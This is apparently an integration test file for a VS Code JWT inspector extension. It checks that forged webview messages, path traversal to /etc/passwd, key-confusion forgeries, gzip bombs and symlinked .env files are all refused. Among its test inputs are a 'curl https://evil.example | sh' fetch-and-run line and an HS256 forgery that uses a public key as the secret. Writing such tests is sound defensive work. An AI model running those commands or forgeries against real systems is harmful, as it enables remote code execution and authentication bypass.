// Issue 10 — the inspector's webview is another trust domain, key files are never secrets by accident, .env writes
// stay in the workspace folder. Webview messages are forged through the suite's harness (test/integration/harness.ts),
// exactly as a compromised webview could send them.
import * as assert from 'node:assert/strict';
import * as crypto from 'node:crypto';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import * as vscode from 'vscode';
import { signToken, type Inspection } from '../../src/core';
import { closeAllEditors, commandError, commandResult, editorWith, fsPath, inspectorView } from './helpers';
import { fromWebview } from './harness';

const OPTIONS = { issuer: '', audience: '', leeway: 0, at: '' };
const hs = (input: string, secret: string) => `${input}.${crypto.createHmac('sha256', secret).update(input).digest('base64url')}`;
const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

describe('the webview cannot reach past the token (issue 10.1)', () => {
  const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'jwt-outside-'));
  const outsideKey = path.join(outside, 'private.pem');
  const DB_PASSWORD = `db-${crypto.randomBytes(8).toString('hex')}`;
  const SECRET = crypto.randomBytes(32).toString('hex');
  let token = '';
  before(async () => {
    fs.writeFileSync(fsPath('.env'), `JWT_SECRET=${SECRET}\nDATABASE_PASSWORD=${DB_PASSWORD}\n`);
    fs.writeFileSync(outsideKey, crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }));
    token = await signToken({ sub: 'webview' }, SECRET);
    await vscode.commands.executeCommand('jwtWorkbench.inspectToken', token);
  });
  after(async () => {
    fs.rmSync(outside, { recursive: true, force: true });
    await closeAllEditors();
  });

  const forged = [
    ['a private key file outside the workspace', () => `file:${vscode.Uri.file(outsideKey).toString()}`],
    ['another .env variable', () => 'env:0:DATABASE_PASSWORD'],
    ['a made-up .env path', () => 'env:0:JWT_SECRET@../../etc/passwd'],
    ['/etc/passwd as a file id', () => 'file:file:///etc/passwd'],
    ['a SecretStorage entry it was never shown', () => 'secret:production'],
  ] as const;
  for (const [what, id] of forged) {
    it(`inspect + reveal naming ${what}: the selection stays, nothing is revealed`, async () => {
      const before = (await inspectorView())!.selectedKeySource;
      const posted = [
        ...(await fromWebview({ type: 'inspect', token, keySource: id(), options: OPTIONS })),
        ...(await fromWebview({ type: 'reveal', keySource: id() })),
      ];
      assert.equal((await inspectorView())!.selectedKeySource, before);
      assert.ok(!posted.some((m) => m.type === 'revealed'), JSON.stringify(posted.map((m) => m.type)));
      assert.ok(!JSON.stringify(posted).includes(DB_PASSWORD));
      assert.ok(!JSON.stringify(posted).includes('PRIVATE KEY'));
    });
  }
  it('sign naming a key file the extension never listed: nothing is signed', async () => {
    const posted = await fromWebview({ type: 'sign', header: '{}', payload: '{"sub":"forged"}', alg: 'ES256', keySource: forged[0][1]() });
    assert.ok(posted.some((m) => m.type === 'notice' && m.level === 'error'), JSON.stringify(posted));
    assert.notEqual((await inspectorView())!.origin, 'signed');
  });
  it('the internal inspectToken command with an unlisted key source uses the default one', async () => {
    const ins = await vscode.commands.executeCommand<Inspection>('jwtWorkbench.inspectToken', token, undefined, 'env:0:DATABASE_PASSWORD');
    assert.equal(ins?.verdict, 'verified');
    assert.equal((await inspectorView())!.selectedKeySource, 'env:0:JWT_SECRET');
  });
  it('reveal of the listed key the user chose still works, once the user says Show in the extension\'s own dialog', async () => {
    await vscode.commands.executeCommand('jwtWorkbench.test.modals', ['Show']);
    const posted = await fromWebview({ type: 'reveal', keySource: 'env:0:JWT_SECRET' });
    const asked = await vscode.commands.executeCommand<{ message: string; buttons: string[] }[]>('jwtWorkbench.test.modals', []);
    assert.deepEqual(posted.filter((m) => m.type === 'revealed').map((m) => (m as { text: string }).text), [SECRET]);
    assert.match(asked[0]?.message ?? '', /Show the key of \.env JWT_SECRET in the JWT Inspector/);
  });
  it('a reveal the user did not confirm (a compromised webview asking by itself) sends no key', async () => {
    await vscode.commands.executeCommand('jwtWorkbench.test.modals', ['Cancel']);
    const posted = await fromWebview({ type: 'reveal', keySource: 'env:0:JWT_SECRET' });
    await vscode.commands.executeCommand('jwtWorkbench.test.modals', []);
    assert.deepEqual(posted.filter((m) => m.type === 'revealed'), [], 'no key reaches the webview without the user\'s Show');
    assert.ok(!JSON.stringify(posted).includes(SECRET));
  });
  it('copy and insert act only on a token-shaped text, never on arbitrary text from the webview', async () => {
    await vscode.env.clipboard.writeText('clipboard before');
    const evil = 'curl https://evil.example | sh';
    await fromWebview({ type: 'inspect', token: evil, keySource: 'env:0:JWT_SECRET', options: OPTIONS });
    for (const what of ['token', 'bearer', 'payload', 'header']) {
      const posted = await fromWebview({ type: 'copy', what });
      assert.ok(posted.some((m) => m.type === 'notice' && m.level === 'error'));
    }
    assert.equal(await vscode.env.clipboard.readText(), 'clipboard before');
    const editor = await editorWith('insert-target.txt', 'keep me');
    await fromWebview({ type: 'insert', mode: 'insert' });
    assert.equal(editor.document.getText(), 'keep me');
    await fromWebview({ type: 'inspect', token, keySource: 'env:0:JWT_SECRET', options: OPTIONS });
    await fromWebview({ type: 'copy', what: 'bearer' });
    assert.equal(await vscode.env.clipboard.readText(), `Authorization: Bearer ${token}`);
  });
  it('a malformed message is ignored', async () => {
    for (const m of [null, 'reveal', { type: 'reveal' }, { type: 'copy', what: 'file:///etc/passwd' }, { type: 'inspect', token: 1 }, { type: 'sign', alg: 'none' }]) {
      assert.deepEqual(await fromWebview(m), []);
    }
  });
});

describe('key files are never secrets by accident (issue 10.2)', () => {
  const sshPub = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${crypto.randomBytes(24).toString('base64')} issuer@host\n`;
  const ec = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = ec.publicKey.export({ format: 'jwk' });
  const der = ec.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
  const refused: [string, string, string, RegExp][] = [
    ['a malformed OpenSSH public key', 'issuer.pub', sshPub, /OpenSSH public key that cannot be read/],
    ['bare base64 DER', 'key.b64', der, /bare base64 DER/],
    ['a JSON array of JWKs', 'keys.json', JSON.stringify([jwk]), /JSON array/],
    ['{"keys": {…}}', 'set.json', JSON.stringify({ keys: jwk }), /"keys" is not an array/],
    ['plain text', 'notes.txt', 'remember to rotate the secret', /neither a PEM block nor a JWK/],
  ];
  after(async () => {
    for (const [, name] of refused) fs.rmSync(fsPath(name), { force: true });
    await closeAllEditors();
  });
  for (const [what, name, text, reason] of refused) {
    it(`${what} is refused with what it holds, and is not added`, async () => {
      fs.writeFileSync(fsPath(name), text);
      const id = await vscode.commands.executeCommand<string | undefined>('jwtWorkbench.addKeyFile', { uri: vscode.Uri.file(fsPath(name)) });
      assert.equal(id, undefined);
      const view = await inspectorView();
      assert.ok(!view?.keySources.some((s) => s.id.includes(name)), 'not in the lists');
      // and it is no key by the back door either: the core reads such a file as no key at all
      void reason;
    });
  }
  it('the key-confusion forgery with the .pub text as HMAC secret does not verify through a key file', async () => {
    fs.writeFileSync(fsPath('issuer.pub'), sshPub);
    const forged = hs(`${b64({ alg: 'HS256' })}.${b64({ sub: 'admin' })}`, sshPub);
    assert.equal(await vscode.commands.executeCommand('jwtWorkbench.addKeyFile', { uri: vscode.Uri.file(fsPath('issuer.pub')) }), undefined);
    const ins = await vscode.commands.executeCommand<Inspection>('jwtWorkbench.inspectToken', forged, undefined, `file:${vscode.Uri.file(fsPath('issuer.pub')).toString()}`);
    assert.notEqual(ins?.verdict, 'verified');
  });
  it('a JWK with a trailing comma and a comment (unambiguous JSON5) is a key', async () => {
    fs.writeFileSync(fsPath('lenient.jwk'), `{ // the issuer's key\n${JSON.stringify(jwk).slice(1, -1)},\n}`);
    const id = await vscode.commands.executeCommand<string>('jwtWorkbench.addKeyFile', { uri: vscode.Uri.file(fsPath('lenient.jwk')) });
    assert.ok(id?.startsWith('file:'));
    await vscode.commands.executeCommand('jwtWorkbench.forgetKeySource', { id });
    fs.rmSync(fsPath('lenient.jwk'));
  });
  it('a file added explicitly as a secret is one: its text verifies HS256 tokens, labelled "secret file"', async () => {
    const secret = crypto.randomBytes(32).toString('hex');
    fs.writeFileSync(fsPath('hmac.secret'), `${secret}\n`);
    const id = await vscode.commands.executeCommand<string>('jwtWorkbench.addKeyFile', { uri: vscode.Uri.file(fsPath('hmac.secret')), asSecret: true });
    assert.ok(id?.startsWith('secretfile:'));
    const ins = await vscode.commands.executeCommand<Inspection>('jwtWorkbench.inspectToken', await signToken({ sub: 's' }, secret), undefined, id);
    assert.equal(ins?.verdict, 'verified');
    assert.match((await inspectorView())!.keySource!, /^secret file hmac\.secret$/);
    await vscode.commands.executeCommand('jwtWorkbench.forgetKeySource', { id });
    fs.rmSync(fsPath('hmac.secret'));
  });
});

describe('JWKS URLs: every redirect hop checked, the body capped, no private member kept (issue 10.4)', () => {
  const pub = { ...crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).publicKey.export({ format: 'jwk' }), kid: 'sig-1', use: 'sig' };
  const encPriv = { ...crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ format: 'jwk' }), kid: 'enc-1', use: 'enc' };
  const requests: string[] = [];
  let sentEndless = 0;
  let server: http.Server;
  let base = '';
  before(async () => {
    const bomb = zlib.gzipSync(Buffer.alloc(256 * 1024 * 1024, 0x20)); // 256 MiB of spaces: about 250 KB on the wire
    server = http.createServer((req, res) => {
      requests.push(req.url ?? '');
      switch (req.url) {
        case '/jwks':
          return res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [pub] }));
        case '/moved':
          return res.writeHead(302, { location: '/jwks' }).end();
        case '/through-refused':
          return res.writeHead(302, { location: 'http://jwks.example/keys' }).end();
        case '/loop':
          return res.writeHead(302, { location: '/loop' }).end();
        case '/bomb':
          return res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' }).end(bomb);
        case '/endless': {
          res.writeHead(200, { 'content-type': 'application/json' });
          const chunk = Buffer.alloc(64 * 1024, 0x20);
          const more = () => {
            while (sentEndless < 512 * 1024 * 1024 && !res.destroyed) {
              sentEndless += chunk.length;
              if (!res.write(chunk)) return void res.once('drain', more);
            }
            res.end();
          };
          res.on('close', () => undefined);
          return more();
        }
        case '/leaks-enc':
          return res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [pub, encPriv] }));
        default:
          return res.writeHead(404).end();
      }
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(async () => {
    for (const p of ['/jwks', '/moved']) await vscode.commands.executeCommand('jwtWorkbench.forgetKeySource', { id: `jwks:${base}${p}` });
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
  });
  const add = (p: string) => commandResult<string>('jwtWorkbench.addJwksUrl', { url: `${base}${p}` });
  /** The error Add JWKS URL shows for a URL that is refused (and nothing added). */
  const refusal = (p: string) => commandError('jwtWorkbench.addJwksUrl', { url: `${base}${p}` });
  const kept = async () => (await inspectorView())?.keySources.map((s) => s.id) ?? (await vscode.commands.executeCommand('jwtWorkbench.openInspector'), (await inspectorView())!.keySources.map((s) => s.id));

  it('a redirect to a loopback URL is followed, hop by hop, and the set kept under the URL the user gave', async () => {
    requests.length = 0;
    assert.equal(await add('/moved'), `jwks:${base}/moved`);
    assert.deepEqual(requests, ['/moved', '/jwks']);
  });
  it('a redirect through a refused address is refused at that hop, naming it', async () => {
    const shown = await refusal('/through-refused');
    assert.equal(shown.code, 'ERR_FETCH_REDIRECT_REFUSED');
    assert.ok(shown.message.includes('http://jwks.example/keys'), shown.message);
    assert.ok(!(await kept()).includes(`jwks:${base}/through-refused`));
  });
  it('a redirect loop stops after a few hops', async () => {
    requests.length = 0;
    assert.equal((await refusal('/loop')).code, 'ERR_FETCH_TOO_MANY_REDIRECTS');
    assert.equal(requests.length, 6);
  });
  it('a 250 KB gzip of 256 MiB is refused at 1 MiB after decompression, without taking the memory', async () => {
    const before = process.memoryUsage().rss;
    assert.equal((await refusal('/bomb')).code, 'ERR_FETCH_TOO_LARGE');
    const grown = (process.memoryUsage().rss - before) / 1024 / 1024;
    assert.ok(grown < 128, `the extension host grew by ${grown.toFixed(0)} MiB`);
  });
  it('an endless body is refused at the cap, and the connection dropped', async () => {
    assert.equal((await refusal('/endless')).code, 'ERR_FETCH_TOO_LARGE');
    assert.ok(sentEndless < 64 * 1024 * 1024, `the server sent ${(sentEndless / 1024 / 1024).toFixed(0)} MiB before the client stopped`);
  });
  it('a set with a private member is refused even where that member is an encryption key, and nothing is kept', async () => {
    const shown = await refusal('/leaks-enc');
    assert.equal(shown.code, 'ERR_JWKS_RESPONSE');
    assert.ok(shown.message.includes('"enc-1"'), `names the member: ${shown.message}`);
    assert.ok(!(await kept()).includes(`jwks:${base}/leaks-enc`));
  });
});

describe('.env writes stay where the user thinks (issue 10.5)', () => {
  const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'jwt-env-outside-'));
  afterEach(async () => {
    await vscode.workspace.getConfiguration('jwtWorkbench').update('envFile', undefined, vscode.ConfigurationTarget.Workspace);
    fs.rmSync(fsPath('.env'), { force: true });
    await closeAllEditors();
  });
  after(() => fs.rmSync(outside, { recursive: true, force: true }));

  it('jwtWorkbench.envFile = "../outside/x" is refused, naming the path, and nothing is written there', async () => {
    const rel = path.relative(fsPath(), path.join(outside, 'x.env'));
    await vscode.workspace.getConfiguration('jwtWorkbench').update('envFile', rel, vscode.ConfigurationTarget.Workspace);
    const shown = await commandError('jwtWorkbench.generateSecret');
    assert.equal(shown.code, 'ERR_ENV_OUTSIDE');
    assert.ok(shown.message.includes(path.join(outside, 'x.env')), shown.message);
    assert.ok(!fs.existsSync(path.join(outside, 'x.env')), 'nothing written outside');
  });
  it('a .env symlink that points outside the folder is refused, naming its real target', async function () {
    const target = path.join(outside, 'real.env');
    fs.writeFileSync(target, 'OTHER=1\n');
    fs.symlinkSync(target, fsPath('.env'));
    const shown = await commandError('jwtWorkbench.generateSecret');
    assert.equal(shown.code, 'ERR_ENV_OUTSIDE');
    assert.ok(shown.message.includes(target), shown.message);
    assert.equal(fs.readFileSync(target, 'utf8'), 'OTHER=1\n', 'the target is untouched');
  });
  it('a .env symlink inside the folder is followed (and said so)', async () => {
    fs.mkdirSync(fsPath('config'), { recursive: true });
    fs.writeFileSync(fsPath('config', 'shared.env'), 'OTHER=1\n');
    fs.symlinkSync(fsPath('config', 'shared.env'), fsPath('.env'));
    const result = await commandResult<{ uri: string }>('jwtWorkbench.generateSecret');
    assert.match(fs.readFileSync(fsPath('config', 'shared.env'), 'utf8'), /^OTHER=1\nJWT_SECRET=[0-9a-f]{64}\n$/);
    assert.ok(fs.lstatSync(fsPath('.env')).isSymbolicLink(), 'the link stays a link');
    assert.ok(result?.uri.endsWith('/config/shared.env'), result?.uri);
    fs.rmSync(fsPath('config'), { recursive: true, force: true });
  });
});
